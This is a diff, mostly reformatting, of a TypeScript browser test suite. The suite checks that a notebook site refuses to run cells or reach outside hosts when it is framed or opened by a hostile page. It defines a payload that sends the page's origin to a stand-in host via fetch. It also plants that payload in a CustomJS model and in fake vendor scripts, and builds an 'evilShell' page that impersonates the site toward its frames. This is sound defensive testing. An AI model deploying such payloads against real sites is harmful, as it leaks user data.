@@ -6,7 +6,9 @@ import type { Target } from './target.ts';
 
 const RAN = 'globalThis.attackRan = ["framed"]; fetch(`https://framed.test/?${origin}`)';
 const NOTEBOOK = notebookFile('Framed', [{ id: 'a', type: 'module', text: RAN }]);
-const STORED = { a: [{ kind: 'shown', shown: { data: bokehItem(model('Div', { text: 'x' }), model('CustomJS', { code: RAN })) } }] };
+const STORED = {
+  a: [{ kind: 'shown', shown: { data: bokehItem(model('Div', { text: 'x' }), model('CustomJS', { code: RAN })) } }],
+};
 
 /** A page that plays the shell for every notebook page it can reach, in the site's own form and in Comlink's. */
 const evilShell = (body: string) => `<!doctype html><title>Evil</title>${body}<script>
@@ -27,7 +29,15 @@ setInterval(() => { for (let i = 0; i < frames.length; i++) all(frames[i]); if (
 
 test('the page that holds notebooks works for no page but the site’s own', async ({ target }) => {
   const framed = (rights: string) => `<iframe ${rights} src="${target.siteUrl}stage.html"></iframe>`;
-  await visit(target, evilShell(framed('') + framed('sandbox="allow-scripts"') + framed('sandbox="allow-scripts allow-same-origin"') + framed('name="notebook"')));
+  await visit(
+    target,
+    evilShell(
+      framed('') +
+        framed('sandbox="allow-scripts"') +
+        framed('sandbox="allow-scripts allow-same-origin"') +
+        framed('name="notebook"'),
+    ),
+  );
   await waitForFrames(target, 4);
   await target.settle();
   await expectNothing(target);
@@ -42,21 +52,38 @@ test('nor when it stands alone in a window of theirs', async ({ target }) => {
 });
 
 test('nor a notebook’s frame inside the site in a window of theirs', async ({ target }) => {
-  await visit(target, evilShell(`<script>globalThis.popup = open('${target.siteUrl}index.html${notebookLink(NOTEBOOK)}')</script>`));
+  await visit(
+    target,
+    evilShell(`<script>globalThis.popup = open('${target.siteUrl}index.html${notebookLink(NOTEBOOK)}')</script>`),
+  );
   await expect.poll(() => target.windows[0]?.frames().length).toBe(3);
-  await target.windows[0]!.frameLocator('iframe.stage').frameLocator('iframe[data-notebook]').locator('[data-cell="a"]').waitFor();
+  await target.windows[0]!.frameLocator('iframe.stage')
+    .frameLocator('iframe[data-notebook]')
+    .locator('[data-cell="a"]')
+    .waitFor();
   await target.settle();
   expect.soft(target.reached().filter((host) => host === 'framed.test')).toEqual([]);
-  await expect(target.windows[0]!.frameLocator('iframe.stage').frameLocator('iframe[data-notebook]').locator('[data-cell="a"]')).toHaveAttribute('data-state', 'idle');
+  await expect(
+    target.windows[0]!.frameLocator('iframe.stage').frameLocator('iframe[data-notebook]').locator('[data-cell="a"]'),
+  ).toHaveAttribute('data-state', 'idle');
 });
 
-for (const [what, hash] of [['home', ''], ['a notebook', notebookLink(NOTEBOOK)], ['a shipped notebook', '#cells/tour']] as const) {
+for (const [what, hash] of [
+  ['home', ''],
+  ['a notebook', notebookLink(NOTEBOOK)],
+  ['a shipped notebook', '#cells/tour'],
+] as const) {
   test(`framed by another site, the site shows no more than a way to a window: ${what}`, async ({ target }) => {
-    await visit(target, `<!doctype html><iframe width="900" height="700" src="${target.siteUrl}index.html${hash}"></iframe>`);
+    await visit(
+      target,
+      `<!doctype html><iframe width="900" height="700" src="${target.siteUrl}index.html${hash}"></iframe>`,
+    );
     const site = target.page.frameLocator('iframe').first();
     await expect(site.locator('body')).not.toBeEmpty();
     await target.settle();
-    const pressable = await site.locator('button, a[href], input, select, textarea, iframe').evaluateAll((all) => all.map((one) => `${one.localName} ${one.getAttribute('target') ?? ''}`));
+    const pressable = await site
+      .locator('button, a[href], input, select, textarea, iframe')
+      .evaluateAll((all) => all.map((one) => `${one.localName} ${one.getAttribute('target') ?? ''}`));
     expect(pressable.filter((one) => !/^a _blank|^button/.test(one))).toEqual([]);
     expect(pressable.length).toBeLessThanOrEqual(1);
   });
@@ -64,7 +91,11 @@ for (const [what, hash] of [['home', ''], ['a notebook', notebookLink(NOTEBOOK)]
 
 async function visit(target: Target, html: string): Promise<void> {
   target.internet.serve('http://framer.test/', { type: 'text/html', body: html });
-  for (const name of ['bokeh', 'bokeh-gl', 'bokeh-widgets', 'bokeh-api', 'bokeh-tables']) target.internet.serve(`https://framer.test/vendor/bokeh/${name}.esm.min.js`, { type: 'text/javascript', body: `${RAN}; export default {};` });
+  for (const name of ['bokeh', 'bokeh-gl', 'bokeh-widgets', 'bokeh-api', 'bokeh-tables'])
+    target.internet.serve(`https://framer.test/vendor/bokeh/${name}.esm.min.js`, {
+      type: 'text/javascript',
+      body: `${RAN}; export default {};`,
+    });
   await target.page.goto('http://framer.test/');
 }
 
@@ -76,8 +107,25 @@ async function waitForFrames(target: Target, count: number): Promise<void> {
 async function expectNothing(target: Target): Promise<void> {
   const frames = [target.page, ...target.windows].flatMap((page) => page.frames());
   const drawn = await Promise.all(frames.map((frame) => frame.locator('[data-cell]').count()));
-  expect.soft(drawn.reduce((sum, count) => sum + count, 0), 'cells that were drawn').toBe(0);
-  const ran = await Promise.all(frames.map((frame) => frame.evaluate(() => (globalThis as { attackRan?: unknown }).attackRan)));
-  expect.soft(ran.filter((mark) => mark !== undefined), 'what ran').toEqual([]);
-  expect.soft(target.reached().filter((host) => host === 'framed.test'), 'who was told').toEqual([]);
+  expect
+    .soft(
+      drawn.reduce((sum, count) => sum + count, 0),
+      'cells that were drawn',
+    )
+    .toBe(0);
+  const ran = await Promise.all(
+    frames.map((frame) => frame.evaluate(() => (globalThis as { attackRan?: unknown }).attackRan)),
+  );
+  expect
+    .soft(
+      ran.filter((mark) => mark !== undefined),
+      'what ran',
+    )
+    .toEqual([]);
+  expect
+    .soft(
+      target.reached().filter((host) => host === 'framed.test'),
+      'who was told',
+    )
+    .toEqual([]);
 }
